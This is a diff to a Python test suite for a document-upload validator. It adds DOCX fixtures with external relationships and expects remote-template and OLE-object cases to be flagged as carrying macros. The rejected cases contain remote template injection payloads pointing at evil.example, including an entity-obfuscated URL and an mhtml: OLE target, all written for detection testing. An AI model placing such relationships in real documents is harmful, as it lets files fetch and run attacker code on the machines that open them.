@@ -42,6 +42,13 @@ def desk(tmp_path: Path) -> Desk:
     return Desk(tmp_path / "draft")
 
 
+def loading(kind: str, target: str) -> dict[str, str | bytes]:
+    """Return the part of a DOCX that has it load something."""
+    types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+    relation = f'<Relationship Id="r" Type="{types}{kind}" Target="{target}" TargetMode="External"/>'
+    return {"word/_rels/settings.xml.rels": making.RELATIONS.replace("/>", f">{relation}</Relationships>")}
+
+
 @pytest.mark.parametrize(
     ("name", "content", "media_type", "pages"),
     [
@@ -55,6 +62,8 @@ def desk(tmp_path: Path) -> Desk:
         ("biểu.xlsx", xlsx(), XLSX.media_type, 0),
         ("công văn.odt", odf(), ODT.media_type, 0),
         ("biểu.ods", odf(ODS.media_type), ODS.media_type, 0),
+        ("mẫu trên máy.docx", docx(loading("attachedTemplate", "file:///C:\\Mau\\a.dotx")), DOCX.media_type, 0),
+        ("có đường dẫn.docx", docx(loading("hyperlink", "https://cchc.gov.vn/a")), DOCX.media_type, 0),
         ("có biểu.docx", docx({"word/embeddings/bieu.xlsx": xlsx()}), DOCX.media_type, 0),
     ],
 )
@@ -134,6 +143,9 @@ WHOLE_PDF, WHOLE_PNG, WHOLE_DOCX = pdf(), png(), docx()
             docx({"word/embeddings/a.bin": xlsx({"xl/vbaProject.bin": b"a"})}),
             "file-has-macros",
         ),
+        ("mẫu ở xa.docx", docx(loading("attachedTemplate", "https://evil.example/a.dotm")), "file-has-macros"),
+        ("mẫu ở xa.docx", docx(loading("attachedTemplate", "&#104;ttp://evil.example/a.dotx")), "file-has-macros"),
+        ("đối tượng ở xa.docx", docx(loading("oleObject", "mhtml:http://evil.example/a!x")), "file-has-macros"),
         ("macro4.xlsx", xlsx({"xl/macrosheets/sheet1.xml": "<a/>"}), "file-has-macros"),
         ("macro.odt", odf(more={"Basic/Standard/Module1.xml": "<a/>"}), "file-has-macros"),
         ("bom.docx", bomb(80 * 2**20), "file-expands-too-much"),
